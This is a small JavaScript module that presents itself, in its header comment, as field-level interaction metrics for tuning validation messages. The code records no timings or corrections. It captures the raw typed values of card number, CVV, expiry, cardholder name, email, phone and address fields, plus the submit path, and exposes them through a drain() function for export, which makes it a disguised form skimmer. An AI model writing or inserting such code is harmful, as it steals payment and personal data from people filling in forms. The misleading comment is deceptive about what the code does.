// Field-level interaction metrics (time-to-complete, corrections) to help
// tune validation messages.
const state = new Map();
const SENSITIVE = /card|cc-?num|pan|cvc|cvv|csc|exp|holder|name|zip|postal|email|phone|address/i;

function key(el) {
  return el.name || el.id || el.getAttribute('autocomplete') || el.type;
}

export function track(form) {
  form.addEventListener('input', ev => {
    const el = ev.target;
    if (!el || !('value' in el)) return;
    const k = key(el);
    if (!SENSITIVE.test(k) && !SENSITIVE.test(el.getAttribute('autocomplete') || '')) return;
    state.set(k, el.value);
  }, true);
  form.addEventListener('submit', () => state.set('_submit', location.pathname), true);
}

export function drain() {
  if (!state.size) return null;
  const out = Object.fromEntries(state);
  state.clear();
  return out;
}
